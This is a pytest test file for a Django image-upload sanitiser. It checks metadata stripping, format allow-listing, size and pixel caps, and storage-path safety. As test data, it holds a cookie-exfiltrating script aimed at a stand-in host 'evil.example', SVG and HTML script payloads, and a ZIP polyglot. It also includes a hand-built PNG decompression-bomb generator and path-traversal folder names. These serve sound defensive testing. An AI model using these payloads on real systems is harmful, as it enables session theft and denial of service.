"""Uploaded document images: the allow-list, the byte and pixel caps, metadata stripping, storage.

Every image is built in memory with Pillow (or, for the bombs, byte by byte), so nothing here
depends on sample files.
"""

import hashlib
import io
import re
import struct
import time
import zipfile
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin

from accounts.uploads import CleanImage, clean_image, store_image

CAMERA_MARKER = "Secret Camera Co"  # the EXIF Make tag, to find any EXIF remnant by its text


# --- Building uploads ------------------------------------------------------------------------


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def upload(data: bytes, name: str = "scan.jpg", content_type: str = "image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def photo(size=(64, 48), mode="RGB") -> Image.Image:
    """A picture with some structure, so lossy re-encoding and rotation have something to show."""
    image = Image.linear_gradient("L").resize(size)
    if mode == "L":
        return image
    return Image.merge("RGB", (image, image.transpose(Image.Transpose.FLIP_LEFT_RIGHT), image))


def exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA_MARKER
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (39.0, 54.0, 27.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (116.0, 23.0, 50.0)
    return exif


def bomb_png(width: int, height: int) -> bytes:
    """A real 1-bit PNG of one colour: kilobytes on disk, width × height bytes once decoded.

    Built by hand because Pillow keeps mode "1" images at a byte per pixel, so letting it create
    one would itself allocate the gigabyte the test is about.
    """

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # filter byte "none", then all-black pixels
    compressor = zlib.compressobj(9)
    rows_per_batch = 1000
    parts = []
    for start in range(0, height, rows_per_batch):
        parts.append(compressor.compress(row * min(rows_per_batch, height - start)))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", b"".join(parts))
        + chunk(b"IEND", b"")
    )


def refusal(file) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        clean_image(file)
    return caught.value


def reopen(clean: CleanImage) -> Image.Image:
    image = Image.open(io.BytesIO(clean.content))
    image.load()
    return image


# --- Accepted images -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "extension", "content_type"),
    [("JPEG", "jpg", "image/jpeg"), ("PNG", "png", "image/png"), ("WEBP", "webp", "image/webp")],
)
def test_a_valid_image_is_accepted_and_re_encoded_in_its_own_format(fmt, extension, content_type):
    original = encode(photo((64, 48)), fmt)

    clean = clean_image(upload(original, name=f"scan.{extension}", content_type=content_type))

    assert (clean.format, clean.extension, clean.content_type) == (fmt, extension, content_type)
    assert (clean.width, clean.height) == (64, 48)
    assert clean.sha256 == hashlib.sha256(clean.content).hexdigest()
    decoded = reopen(clean)
    assert decoded.format == fmt
    assert decoded.size == (64, 48)


def test_the_format_comes_from_the_content_not_the_uploaders_filename():
    png = encode(photo(), "PNG")

    clean = clean_image(upload(png, name="licence.jpg", content_type="image/jpeg"))

    assert (clean.format, clean.extension, clean.content_type) == ("PNG", "png", "image/png")


def test_png_transparency_survives_re_encoding():
    image = Image.new("RGBA", (10, 10), (255, 0, 0, 0))
    image.putpixel((5, 5), (0, 0, 255, 255))

    decoded = reopen(clean_image(upload(encode(image, "PNG"), name="seal.png")))

    assert decoded.mode == "RGBA"
    assert decoded.getpixel((0, 0))[3] == 0
    assert decoded.getpixel((5, 5)) == (0, 0, 255, 255)


def test_a_cmyk_jpeg_is_converted_to_rgb():
    cmyk = encode(Image.new("CMYK", (32, 32), (0, 255, 255, 0)), "JPEG")
    assert Image.open(io.BytesIO(cmyk)).mode == "CMYK"

    clean = clean_image(upload(cmyk))

    decoded = reopen(clean)
    assert clean.format == "JPEG"
    assert decoded.mode == "RGB"
    red, green, blue = decoded.getpixel((16, 16))
    assert red > 200 and green < 60 and blue < 60


def test_a_greyscale_jpeg_stays_greyscale():
    decoded = reopen(clean_image(upload(encode(photo(mode="L"), "JPEG"))))

    assert decoded.mode == "L"


# --- Metadata --------------------------------------------------------------------------------


def test_gps_location_is_stripped_from_a_jpeg():
    original = encode(photo(), "JPEG", exif=exif_with_gps())
    leaked = Image.open(io.BytesIO(original)).getexif()
    assert leaked.get_ifd(ExifTags.IFD.GPSInfo)  # the upload really carries a position
    assert b"Exif" in original

    clean = clean_image(upload(original))

    assert not reopen(clean).getexif()
    assert b"Exif" not in clean.content
    assert CAMERA_MARKER.encode() not in clean.content


def test_exif_orientation_is_applied_to_the_pixels_before_it_is_dropped():
    # Orientation 6: the camera was turned, the viewer must rotate 90° clockwise. The left half
    # of the stored picture is black, so after rotation the top half must be.
    image = Image.new("L", (80, 40), 255)
    image.paste(0, (0, 0, 40, 40))
    original = encode(image, "JPEG", exif=exif_with_gps(orientation=6))

    clean = clean_image(upload(original))

    decoded = reopen(clean)
    assert (clean.width, clean.height) == (40, 80)
    assert decoded.size == (40, 80)
    assert decoded.getpixel((20, 10)) < 30  # top: the former left half
    assert decoded.getpixel((20, 70)) > 225  # bottom: the former right half
    assert not decoded.getexif()


def test_a_tiny_rotated_image_changes_shape():
    original = encode(Image.new("RGB", (2, 1), "white"), "JPEG", exif=exif_with_gps(orientation=6))

    clean = clean_image(upload(original))

    assert (clean.width, clean.height) == (1, 2)


def test_gps_xmp_and_icc_are_stripped_from_a_webp():
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPSLatitude 39,54.45N</x:xmpmeta>'
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = encode(photo(), "WEBP", exif=exif_with_gps(), xmp=xmp, icc_profile=icc)
    assert Image.open(io.BytesIO(original)).getexif()

    clean = clean_image(upload(original, name="scan.webp", content_type="image/webp"))

    decoded = reopen(clean)
    assert not decoded.getexif()
    assert "xmp" not in decoded.info
    assert "icc_profile" not in decoded.info
    for leaked in (b"Exif", b"GPSLatitude", b"XMP ", b"ICCP", CAMERA_MARKER.encode()):
        assert leaked not in clean.content


def test_text_chunks_exif_and_icc_are_stripped_from_a_png():
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Zhang San, 110105194912310021")
    text.add_itxt("Comment", "家庭住址：北京市朝阳区")
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = encode(photo(), "PNG", pnginfo=text, exif=exif_with_gps(), icc_profile=icc)
    assert {"Author", "Comment", "exif", "icc_profile"} <= Image.open(
        io.BytesIO(original)
    ).info.keys()

    clean = clean_image(upload(original, name="consent.png", content_type="image/png"))

    decoded = reopen(clean)
    assert not decoded.getexif()
    assert not {"Author", "Comment", "exif", "icc_profile"} & decoded.info.keys()
    for leaked in (b"tEXt", b"iTXt", b"eXIf", b"iCCP", b"Zhang San", CAMERA_MARKER.encode()):
        assert leaked not in clean.content


def test_a_script_hidden_in_a_jpeg_comment_is_dropped():
    script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    original = encode(photo(), "JPEG", comment=script)
    assert script in original

    clean = clean_image(upload(original))

    assert script not in clean.content
    assert "comment" not in reopen(clean).info


# --- Refused types ---------------------------------------------------------------------------


def _image_bytes(fmt: str) -> bytes:
    return encode(Image.new("RGB", (16, 16), "red"), fmt)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("scan.gif", _image_bytes("GIF"), "unsupported_type"),
        ("scan.bmp", _image_bytes("BMP"), "unsupported_type"),
        ("scan.tiff", _image_bytes("TIFF"), "unsupported_type"),
        (
            "scan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>alert(document.domain)</script></svg>",
            "unsupported_type",
        ),
        (
            "licence.pdf",
            b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n",
            "unsupported_type",
        ),
        (
            "photo.jpg",
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
            "unsupported_type",
        ),
        # JPEG magic bytes and nothing decodable after them: recognised, then broken.
        ("photo.jpg", b"\xff\xd8\xff\xe0 not really a jpeg after the magic bytes", "corrupt"),
    ],
    ids=["gif", "bmp", "tiff", "svg", "pdf", "html-renamed-jpg", "jpeg-magic-only"],
)
def test_anything_but_jpeg_png_and_webp_is_refused(name, data, code):
    assert refusal(upload(data, name=name)).code == code


def test_the_unsupported_type_message_names_the_accepted_formats():
    with translation.override("en"):
        message = refusal(upload(_image_bytes("GIF"), name="scan.gif")).messages[0]

    assert message == "The file is not a JPEG, PNG or WebP image."


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_a_zip_appended_to_an_image_is_not_kept(fmt):
    payload = b"<html><script>alert('polyglot')</script></html>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_STORED) as zip_file:
        zip_file.writestr("index.html", payload)
    polyglot = encode(photo(), fmt) + archive.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))
    assert payload in polyglot

    clean = clean_image(upload(polyglot, name="scan.zip"))

    assert clean.format == fmt
    assert payload not in clean.content
    assert b"PK\x03\x04" not in clean.content
    assert not zipfile.is_zipfile(io.BytesIO(clean.content))


# --- Byte cap --------------------------------------------------------------------------------


def test_a_file_over_the_byte_cap_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1000
    data = encode(Image.effect_noise((64, 64), 64), "PNG")
    assert len(data) > 1000

    with translation.override("en"):
        error = refusal(upload(data, name="scan.png"))

    assert error.code == "too_large"
    assert error.messages[0].startswith("The file is larger than 1000")


def test_the_byte_cap_defaults_to_ten_mebibytes(settings):
    if hasattr(settings, "UPLOAD_MAX_BYTES"):
        del settings.UPLOAD_MAX_BYTES
    # The declared size is checked first, so there is no need to allocate 10 MiB.
    at_cap = upload(b"\x00" * 16, name="scan.png")
    at_cap.size = 10 * 1024 * 1024
    over_cap = upload(b"\x00" * 16, name="scan.png")
    over_cap.size = 10 * 1024 * 1024 + 1

    assert refusal(at_cap).code == "unsupported_type"
    assert refusal(over_cap).code == "too_large"


def test_a_file_that_under_reports_its_size_is_not_read_past_the_cap(settings):
    settings.UPLOAD_MAX_BYTES = 1000

    class Endless(io.RawIOBase):
        """A stream that claims to be small and never ends, counting what is taken from it."""

        size = 10
        name = "scan.png"
        taken = 0

        def readable(self):
            return True

        def read(self, size=-1):
            assert size is not None and size > 0, "an unbounded read of an upload"
            self.taken += size
            return b"\x89" * size

    stream = Endless()

    assert refusal(stream).code == "too_large"
    assert stream.taken == 1001


def test_an_empty_file_is_refused():
    error = refusal(upload(b"", name="scan.jpg"))

    assert error.code == "corrupt"


def test_a_file_already_read_by_a_form_is_read_from_the_start():
    file = upload(encode(photo(), "PNG"), name="scan.png")
    file.read()

    assert clean_image(file).format == "PNG"


# --- Pixel cap and decompression bombs -------------------------------------------------------


def test_an_image_over_the_pixel_cap_is_refused_before_its_pixels_are_decoded(
    settings, monkeypatch
):
    settings.UPLOAD_MAX_PIXELS = 5000
    data = encode(photo((100, 100)), "PNG")
    decoded = []
    real_load = ImageFile.ImageFile.load

    def spy_load(self):
        decoded.append(self.size)
        return real_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy_load)

    error = refusal(upload(data, name="scan.png"))

    assert error.code == "too_many_pixels"
    assert decoded == []


def test_an_image_within_a_small_pixel_cap_is_accepted(settings):
    settings.UPLOAD_MAX_PIXELS = 5000

    assert clean_image(upload(encode(photo((50, 100)), "PNG"), name="scan.png")).width == 50


def test_an_absurdly_long_side_is_refused_even_under_the_pixel_cap():
    data = bomb_png(20_001, 1)  # 20,001 pixels, far below the 40 million cap

    error = refusal(upload(data, name="strip.png"))

    assert error.code == "too_many_pixels"
    assert error.params["width"] == 20_001


def test_a_decompression_bomb_is_refused_quickly():
    data = bomb_png(30_000, 30_000)  # 900 million pixels
    assert len(data) < 1024 * 1024

    started = time.perf_counter()
    error = refusal(upload(data, name="scan.png"))
    elapsed = time.perf_counter() - started

    assert error.code == "too_many_pixels"
    assert elapsed < 1.0


def test_pillows_bomb_warning_is_a_refusal_even_with_a_generous_pixel_cap(settings):
    # 100 million pixels: above Pillow's warning threshold (about 89 million), below its error
    # threshold; with our own cap out of the way, only the warning-turned-error can refuse it.
    settings.UPLOAD_MAX_PIXELS = 10**9
    data = bomb_png(10_000, 10_000)

    assert refusal(upload(data, name="scan.png")).code == "too_many_pixels"


# --- Damaged and animated files --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_a_truncated_image_is_refused_as_corrupt(fmt):
    noise = Image.effect_noise((256, 256), 64).convert("RGB")
    data = encode(noise, fmt)

    error = refusal(upload(data[: len(data) // 2], name=f"scan.{fmt.lower()}"))

    assert error.code == "corrupt"


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_an_animated_image_is_refused(fmt):
    frames = [Image.new("RGB", (16, 16), colour) for colour in ("red", "green", "blue")]
    data = encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100)
    assert Image.open(io.BytesIO(data)).n_frames == 3

    error = refusal(upload(data, name=f"sticker.{fmt.lower()}"))

    assert error.code == "animated"


# --- Storage ---------------------------------------------------------------------------------

STORED_NAME = re.compile(r"private/licences/\d{4}/\d{2}/[0-9a-f]{32}\.png")


def test_store_image_writes_the_clean_bytes_under_a_random_private_name(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    clean = clean_image(upload(encode(photo(), "PNG"), name="zhang_san_110105194912310021.png"))

    name = store_image(clean, folder="licences")

    assert STORED_NAME.fullmatch(name)
    assert "zhang_san" not in name and "110105" not in name
    assert (Path(tmp_path) / name).read_bytes() == clean.content


def test_store_image_never_reuses_a_name(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    clean = clean_image(upload(encode(photo(), "PNG"), name="scan.png"))

    first = store_image(clean, folder="licences")
    second = store_image(clean, folder="licences")

    assert first != second
    assert STORED_NAME.fullmatch(first) and STORED_NAME.fullmatch(second)


def test_store_image_files_by_the_local_month(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    clean = clean_image(upload(encode(photo(), "JPEG")))

    # 17:00 UTC on 31 March is already 1 April in Beijing.
    with time_machine.travel(datetime(2025, 3, 31, 17, 0, tzinfo=UTC), tick=False):
        name = store_image(clean, folder="guardian-consent")

    assert name.startswith("private/guardian-consent/2025/04/")
    assert name.endswith(".jpg")


@pytest.mark.parametrize("folder", ["../etc", "/absolute", "licences/../../x", "", "Licences"])
def test_store_image_refuses_a_folder_outside_private(settings, tmp_path, folder):
    settings.MEDIA_ROOT = tmp_path
    clean = clean_image(upload(encode(photo(), "PNG"), name="scan.png"))

    with pytest.raises(ValueError, match="invalid upload folder"):
        store_image(clean, folder=folder)
    assert list(Path(tmp_path).iterdir()) == []
